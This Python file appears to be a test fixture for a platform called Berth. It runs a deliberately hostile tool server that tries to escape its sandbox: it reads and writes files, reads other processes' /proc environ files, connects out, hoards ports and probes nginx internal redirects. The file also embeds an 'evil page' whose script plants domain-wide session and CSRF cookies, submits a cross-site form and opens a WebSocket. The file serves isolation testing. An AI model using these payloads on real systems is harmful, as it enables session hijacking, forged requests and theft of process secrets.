"""A hostile tool: it serves HTTP like any tool, and on request tries every way out of its box.

    python hostile_tool.py --host IP --port PORT

POST /attack with a JSON body {"read": [paths], "list": [dirs], "entries": [dirs], "write": [paths], "connect": ["host:port"],
"signal": [pids], "environ": [pids], "hoard": N} answers, for each attempt, what happened:
"ok" (the attack worked) or the error it met. Standard library only, so that it runs under
any interpreter that tools may use.
"""
import argparse
import concurrent.futures
import json
import os
import signal
import socket
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qsl


def _attempt(action):
    try:
        action()
        return "ok"
    except Exception as error:  # noqa: BLE001 - the error is the answer
        return f"{type(error).__name__}: {error}"


def _read(path):
    with open(path, "rb") as handle:
        handle.read(16)


def _write(path):
    with open(path, "ab") as handle:
        handle.write(b"planted")


def _entries(path):
    """What the folder holds, sorted, or the error met listing it."""
    try:
        return sorted(os.listdir(path))
    except OSError as error:
        return f"{type(error).__name__}: {error}"


def _connect(address):
    host, _, port = address.rpartition(":")
    with socket.create_connection((host, int(port)), timeout=1.5):
        pass


def _hoard(count, low, high):
    """Bind as many ports as asked, in the range the platform hands to tools; keep them bound."""
    held = []
    for port in range(low, high + 1):
        if len(held) >= count:
            break
        sock = socket.socket()
        try:
            sock.bind(("0.0.0.0", port))
            sock.listen()
            held.append(sock)
        except OSError:
            sock.close()
    _HOARD.extend(held)
    return len(held)


_HOARD = []


def _capabilities():
    """The effective capability set, as /proc/self/status shows it (hex)."""
    with open("/proc/self/status") as status:
        for line in status:
            if line.startswith("CapEff:"):
                return line.split()[1]
    return ""


# What a hostile page does to whoever opens it: plant cookies for the whole domain, submit one
# of Berth's forms with the attacker's own CSRF token, and open a WebSocket to the visitor's tool.
# It writes what happened into the page, for the test to read.
EVIL_PAGE = """<!doctype html><html><body><h1>Nothing to see</h1><pre id="log"></pre>
<iframe name="sink" style="display:none"></iframe>
<script>
const plan = __PLAN__;
const log = (line) => { document.getElementById("log").textContent += line + "\\n"; };
const domain = "; domain=" + plan.domain + "; path=/";
if (plan.csrf_cookie) { document.cookie = "berth_csrf=" + plan.csrf_cookie + domain; log("planted csrf"); }
if (plan.session) {
  // Over the visitor's own cookie (browsers refuse: it is HttpOnly), and beside it on one path.
  document.cookie = plan.session_cookie + "=" + plan.session + domain;
  document.cookie = plan.session_cookie + "=" + plan.session + "; domain=" + plan.domain + "; path=/account";
  log("planted session");
}
if (plan.form_action) {
  const form = document.createElement("form");
  form.method = "POST"; form.action = plan.form_action; form.target = "sink";
  for (const [name, value] of Object.entries(JSON.parse(plan.form_fields))) {
    const input = document.createElement("input"); input.name = name; input.value = value; form.appendChild(input);
  }
  document.body.appendChild(form); form.submit(); log("form sent");
}
if (plan.websocket) {
  const socket = new WebSocket(plan.websocket);
  socket.onopen = () => { log("websocket open"); document.body.dataset.websocket = "open"; };
  socket.onerror = () => { log("websocket error"); document.body.dataset.websocket = "refused"; };
  socket.onclose = () => { if (!document.body.dataset.websocket) document.body.dataset.websocket = "refused"; };
}
setTimeout(() => { document.body.dataset.done = "yes"; }, 1500);
</script></body></html>"""


def attack(plan):
    report = {"uid": os.getuid(), "gid": os.getgid(), "groups": os.getgroups(),
              "capabilities": _capabilities()}
    report["read"] = {path: _attempt(lambda path=path: _read(path)) for path in plan.get("read", [])}
    report["list"] = {path: _attempt(lambda path=path: os.listdir(path)) for path in plan.get("list", [])}
    report["write"] = {path: _attempt(lambda path=path: _write(path)) for path in plan.get("write", [])}
    report["entries"] = {path: _entries(path) for path in plan.get("entries", [])}
    report["environ"] = {str(pid): _attempt(lambda pid=pid: _read(f"/proc/{pid}/environ"))
                         for pid in plan.get("environ", [])}
    report["signal"] = {str(pid): _attempt(lambda pid=pid: os.kill(pid, 0)) for pid in plan.get("signal", [])}
    with concurrent.futures.ThreadPoolExecutor(32) as pool:
        addresses = plan.get("connect", [])
        results = pool.map(lambda address: _attempt(lambda: _connect(address)), addresses)
        report["connect"] = dict(zip(addresses, results))
    if plan.get("hoard"):
        low, high = plan["hoard_range"]
        report["hoarded"] = _hoard(plan["hoard"], low, high)
    return report


class Handler(BaseHTTPRequestHandler):
    def do_GET(self):  # noqa: N802 - the health probe and a visitor
        if self.path.startswith("/accel"):  # ask nginx to serve one of its internal locations
            target = self.path.partition("?")[2] or "/__berth_auth"
            self.send_response(200)
            self.send_header("X-Accel-Redirect", target)
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        if self.path.startswith("/evil?"):
            return self._page(EVIL_PAGE.replace("__PLAN__", json.dumps(dict(parse_qsl(self.path[6:])))))
        self._answer({"hostile": True})

    def _page(self, html):
        data = html.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def do_POST(self):  # noqa: N802
        length = int(self.headers.get("Content-Length") or 0)
        self._answer(attack(json.loads(self.rfile.read(length) or b"{}")))

    def _answer(self, body):
        data = json.dumps(body).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, *args):
        pass


if __name__ == "__main__":
    parser = argparse.ArgumentParser()
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    arguments = parser.parse_args()
    signal.signal(signal.SIGTERM, lambda *_: os._exit(0))
    ThreadingHTTPServer((arguments.host, arguments.port), Handler).serve_forever()
